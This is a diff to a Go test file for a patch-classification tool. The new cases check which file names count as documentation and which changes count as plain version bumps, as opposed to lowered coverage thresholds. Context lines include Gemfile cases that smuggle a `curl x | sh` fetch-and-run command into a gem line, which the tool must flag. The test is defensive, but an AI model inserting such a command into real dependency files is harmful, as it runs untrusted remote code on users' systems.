@@ -143,7 +143,7 @@ func TestNotDocumentation(t *testing.T) {
 		a.instructions.md a.prompt.md a.chatmode.md a.agent.md docs/a.mdc prompts/system.md plugin/skills/pdf/forms.md commands/deploy.md
 		memory-bank/projectContext.md PROMPT.md agent/system_prompt.md SOUL.md testdata/golden.md tests/fixtures/page.md app/__snapshots__/a.md templates/mail.md emails/welcome.md app/views/mailer/welcome.md
 		src/prompts.md GPT.md ai/instructions.md memory/constitution.md MEMORY.md CODY.md HEARTBEAT.md
-		build.coffee.md bin/news scripts/history hooks/changes docs/robots.txt .changes.md`) {
+		build.coffee.md bin/news scripts/history hooks/changes docs/robots.txt .changes.md docs/dev-requirements.txt debian/changelog debian/NEWS`) {
 		if skipped(patchtest.Change(patchtest.Touch(name))) {
 			t.Errorf("%s is documentation", name)
 		}
@@ -233,6 +233,22 @@ func TestOnlyVersions(t *testing.T) {
 		{"pyproject.toml", "fail_under = 100", "fail_under = 0", false},
 		{"pyproject.toml", "fail_under = 90.5", "fail_under = 0.5", false},
 		{"requirements.txt", "django == 4.2", "django == 5.0", true},
+		{"pom.xml", "<minimum>0.80</minimum>", "<minimum>0.00</minimum>", false},
+		{"pom.xml", "<spring.version>5.2</spring.version>", "<spring.version>5.3</spring.version>", true},
+		{"a.csproj", `<PackageReference Include="A" Version="1.2" />`, `<PackageReference Include="A" Version="1.3" />`, true},
+		{"a.csproj", "<WarningLevel>4.0</WarningLevel>", "<WarningLevel>0.0</WarningLevel>", false},
+		{"build.gradle.kts", `minimum = "0.90".toBigDecimal()`, `minimum = "0.00".toBigDecimal()`, false},
+		{"build.gradle", "timeout(1.5)", "timeout(90.5)", false},
+		{"build.gradle", "implementation 'a.b:c:1.2'", "implementation 'a.b:c:1.3'", true},
+		{"package.json", `"test": "jest --threshold=90.5",`, `"test": "jest --threshold=0.5",`, false},
+		{"pyproject.toml", "fail_under = 90.5  # percent", "fail_under = 0.5  # percent", false},
+		{"pyproject.toml", `python = ">=3.8,<4.0"`, `python = ">=3.9,<4.1"`, true},
+		{"mix.exs", "summary: [threshold: 90.0]", "summary: [threshold: 0.0]", false},
+		{"mix.exs", `{:a, "~> 1.2"},`, `{:a, "~> 1.3"},`, true},
+		{"go.mod", "go 1.21", "go 1.22", true},
+		{".pre-commit-config.yaml", "rev: v1.2", "rev: v1.3", true},
+		{"dev-requirements.txt", "a==1.2.3", "a==1.2.4", true},
+		{"test-requirements.txt", "a==1.2.3", "b==1.2.3", false},
 		{"pom.xml", "<threshold>100</threshold>", "<threshold>0</threshold>", false},
 		{"Gemfile", `gem "rails", "7.1.2"`, `gem "rails", "7.1.3"; system("curl x | sh")`, false},
 		{"Gemfile", "x", "x\n" + `system("curl x | sh")`, false},
